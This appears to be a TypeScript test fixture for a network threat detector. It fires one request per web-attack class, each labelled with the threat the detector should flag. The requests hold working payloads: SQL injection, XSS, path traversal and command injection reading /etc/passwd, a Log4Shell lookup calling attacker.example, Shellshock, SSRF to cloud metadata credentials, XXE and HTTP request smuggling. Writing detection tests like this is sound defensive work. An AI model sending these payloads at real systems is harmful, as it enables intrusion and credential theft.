/** One request per embedded-attack class, placed where an attacker puts it, sent by curl (nc for the raw smuggling request). */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { Netns } from '#test/helpers/netns.ts';

export type PayloadRequest = {
  threat: string;
  tool: string;
  /** Text the finding's evidence must hold, where another request reports the same threat. */
  evidence?: string;
  run(ns: Netns, target: string): void;
};

const curl = (ns: Netns, target: string, path: string, headers: string[] = [], body?: string): void => {
  ns.exec('curl', [
    '-s',
    '-o',
    '/dev/null',
    '--path-as-is',
    ...headers.flatMap((header) => ['-H', header]),
    ...(body === undefined ? [] : ['--data-binary', body]),
    `http://${target}${path}`,
  ]);
};

const q = encodeURIComponent;

export const payloadRequests: readonly PayloadRequest[] = [
  {
    threat: 'sql-injection',
    tool: 'curl',
    run: (ns, target) => curl(ns, target, `/item?id=${q("1' OR '1'='1")}`),
  },
  {
    threat: 'xss',
    tool: 'curl',
    run: (ns, target) => curl(ns, target, `/search?q=${q('<script>alert(document.cookie)</script>')}`),
  },
  {
    threat: 'path-traversal',
    tool: 'curl',
    run: (ns, target) => curl(ns, target, '/static/..%2f..%2f..%2f..%2fetc%2fpasswd'),
  },
  {
    threat: 'command-injection',
    tool: 'curl',
    run: (ns, target) => curl(ns, target, `/tools/ping?host=${q('127.0.0.1; cat /etc/passwd')}`),
  },
  {
    threat: 'log4shell',
    tool: 'curl',
    run: (ns, target) =>
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
      curl(ns, target, '/', ['X-Api-Version: ${${lower:j}ndi:${lower:l}dap://attacker.example:1389/a}']),
  },
  {
    threat: 'shellshock',
    tool: 'curl',
    run: (ns, target) => curl(ns, target, '/cgi-bin/status', ["User-Agent: () { :; }; /bin/bash -c 'id'"]),
  },
  {
    threat: 'ssrf',
    tool: 'curl',
    run: (ns, target) =>
      curl(
        ns,
        target,
        `/fetch?url=${q('http://169.254.169.254/latest/meta-data/iam/security-credentials/')}`,
      ),
  },
  {
    threat: 'sql-injection',
    tool: 'curl (gzip-compressed JSON body)',
    evidence: 'json $.filter',
    run: (ns, target) => {
      const dir = mkdtempSync(join(tmpdir(), 'meshward-gzip-'));
      const file = join(dir, 'body.json.gz');
      writeFileSync(file, gzipSync(JSON.stringify({ filter: "x' UNION SELECT password FROM users--" })));
      try {
        curl(
          ns,
          target,
          '/api/search',
          ['Content-Type: application/json', 'Content-Encoding: gzip'],
          `@${file}`,
        );
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    },
  },
  {
    threat: 'xml-external-entity',
    tool: 'curl',
    run: (ns, target) =>
      curl(
        ns,
        target,
        '/orders/import',
        ['Content-Type: application/xml'],
        '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order>&xxe;</order>',
      ),
  },
  {
    threat: 'http-smuggling',
    tool: 'nc',
    run: (ns, target) => {
      const [host, port] = target.split(':');
      // CL.TE: both framings in one request (RFC 9112 section 6.1 says a server must not trust both).
      const request =
        'POST / HTTP/1.1\r\nHost: shop\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG';
      ns.exec('nc', ['-q', '1', '-w', '2', host ?? '', port ?? ''], { input: request });
    },
  },
];
